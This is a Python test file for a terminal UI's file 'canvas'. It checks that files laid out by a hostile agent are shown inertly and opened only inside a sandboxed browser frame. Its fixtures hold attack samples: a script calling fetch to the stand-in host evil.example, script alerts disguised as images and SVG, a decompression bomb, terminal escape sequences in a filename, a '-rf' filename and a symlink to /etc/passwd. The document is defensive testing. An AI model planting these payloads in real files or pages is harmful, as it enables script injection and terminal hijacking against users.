"""A canvas on a real engine, laid out by an agent that means harm: nothing opens, nothing is hurt."""

import os
from io import BytesIO
from pathlib import Path

import pytest
from PIL import Image

from replicas_tui.api.canvas import LARGEST
from replicas_tui.api.replicas import CreateReplica
from tests.ui.automating import no_network
from tests.ui.living import Living, living
from tests.ui.test_images import bomb

pytestmark = pytest.mark.timeout(180)  # an engine, an agent and many files looked at: long on a busy machine

PAGE = "<script>fetch('https://evil.example')</script><h1>Load test</h1><p>It <b>held</b>.</p>"


def picture(width: int = 60, height: int = 40) -> bytes:
    out = BytesIO()
    Image.new("RGB", (width, height), (200, 30, 60)).save(out, "PNG")
    return out.getvalue()


def lay(folder: Path) -> None:
    """What the agent will put on its canvas."""
    folder.mkdir()
    files = {
        "a-good.png": picture(),
        "b-lies.png": b"<html><script>alert(1)</script><p>words",
        "c-short.png": picture(300, 200)[:-60],
        "d-bomb.png": bomb(60_000, 60_000),
        "e-evil.svg": b"<svg xmlns='http://www.w3.org/2000/svg'><script>alert('svg')</script></svg>",
        "f-large.md": b"x" * (LARGEST + 1),
        "g-esc\x1b]0;owned\x07.md": b"# title\x1b]0;owned\x07 \x1b[2Jgone?",
        "h-page.html": PAGE.encode(),
        "-rf": b"a flag",
    }
    for name, content in files.items():
        (folder / name).write_bytes(content)
    (folder / "z-link.md").symlink_to("/etc/passwd")
    os.mkfifo(folder / "z-fifo.md")


async def canvas_of(here: Living, folder: Path) -> None:
    """Let an agent lay it out, and look at it."""
    script = f"mkdir -p ~/.replicas/canvas && cp -a -- '{folder}'/. ~/.replicas/canvas/"
    wish = CreateReplica(
        name="one",
        message=f"```sh\n{script}\n```",
        environment_id=here.engine.environment_id,
        coding_agent="script",
    )
    made = (await here.client.replicas.create(wish)).id
    await here.press("R")
    await here.until(lambda: made in here.state.replicas and here.state.replicas[made].status == "active")
    await here.see("To review")
    await here.press("g", "j", "enter")
    await here.until(lambda: here.state.open_replica == made)
    await here.press("c")
    await here.see("a-good.png")


async def test_an_empty_canvas_says_how_files_get_there_and_one_that_cannot_be_read_says_why(tmp_path: Path) -> None:
    async with living(tmp_path, (80, 24)) as here:
        wish = CreateReplica(name="one", message="hello", environment_id=here.engine.environment_id)
        await here.client.replicas.create(wish.model_copy(update={"coding_agent": "script"}))
        await here.press("R")
        await here.see("To review")
        await here.press("g", "j", "enter")
        await here.until(lambda: here.state.open_replica)
        await here.press("c")
        screen = await here.see("No files on the canvas yet.")
        assert "~/.replicas/canvas" in screen
        assert "esc goes back to ask" in " ".join(screen.split())
        assert "↵ open" not in screen
        with no_network(here):
            await here.press("R")
            screen = await here.see("R reads again")
            assert "The server cannot be reached" in screen
            assert "No files" not in screen
        await here.press("R")
        await here.see("No files on the canvas yet.")


@pytest.fixture
def browser(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A browser that writes down what it is given."""
    opened = tmp_path / "opened"
    program = tmp_path / "browser"
    program.write_text(f"#!/bin/sh\necho \"$1\" >>'{opened}'\n")
    program.chmod(0o755)
    monkeypatch.setenv("BROWSER", str(program))
    monkeypatch.setenv("REPLICAS_TUI_HOME", str(tmp_path / "home"))
    monkeypatch.setenv("TERM", "xterm-256color")
    monkeypatch.setenv("COLORTERM", "truecolor")  # or there would be no pictures
    for name in ("SSH_TTY", "SSH_CONNECTION", "NO_COLOR"):
        monkeypatch.delenv(name, raising=False)
    return opened


async def test_a_canvas_that_means_harm_is_shown_as_what_it_is(tmp_path: Path, browser: Path) -> None:
    lay(tmp_path / "hostile")
    async with living(tmp_path) as here:
        await canvas_of(here, tmp_path / "hostile")
        shown = here.text()
        assert "z-link" not in shown
        assert "z-fifo" not in shown
        for sees in (
            "a flag",
            "60 × 40 pixels",
            "Its name says image, but it is a web page.",
            "It is cut short or broken",
            "hundreds of megapixels",
            "nothing in it is run",
            "files above 5.0M are not sent",
            "title␛]0;owned␇ ␛[2Jgone?",
            "Load test",
        ):
            await here.press("enter")
            text = await here.see(sees)
            assert "\x1b" not in text
            assert "alert(1)" not in text
            await here.press("escape", "j")
        assert not browser.exists()


async def test_a_page_goes_to_the_browser_in_a_frame_that_may_do_nothing(tmp_path: Path, browser: Path) -> None:
    lay(tmp_path / "hostile")
    async with living(tmp_path) as here:
        await canvas_of(here, tmp_path / "hostile")
        await here.press(*["j"] * 8, "enter")
        await here.see("Load test")
        await here.press("o")
        await here.until(lambda: browser.exists() and browser.read_text().endswith("\n"))
        address = browser.read_text().strip()
        assert address.startswith(f"file://{tmp_path}/home/cache/pages/")
        page = Path(address.removeprefix("file://"))
        assert page.stat().st_mode & 0o777 == 0o600
        text = page.read_text()
        assert 'sandbox=""' in text
        assert "default-src &#x27;none&#x27;" in text
        assert "<script" not in text


async def test_over_ssh_no_browser_opens_and_a_way_is_named(
    tmp_path: Path, browser: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("SSH_TTY", "/dev/pts/9")
    lay(tmp_path / "hostile")
    async with living(tmp_path) as here:
        await canvas_of(here, tmp_path / "hostile")
        await here.press(*["j"] * 8, "enter")
        await here.see("Load test")
        await here.press("o")
        await here.see("There is no browser here")
        assert not browser.exists()
